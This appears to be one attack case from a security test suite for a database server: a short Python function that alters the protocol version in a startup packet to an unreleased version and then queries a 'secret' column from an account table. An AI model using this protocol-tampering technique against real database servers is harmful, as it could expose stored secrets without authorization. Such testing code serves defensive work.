"""Asks for a protocol that does not exist yet, and reads."""

import struct

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import startup

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.raw() as client:
        hello = startup(user=server.user, database=server.dbname)
        newer = hello[:4] + struct.pack("!I", (3 << 16) | 9) + hello[8:]
        return ask(client, newer, query(b"SELECT secret FROM vlt_account"), rounds=2)
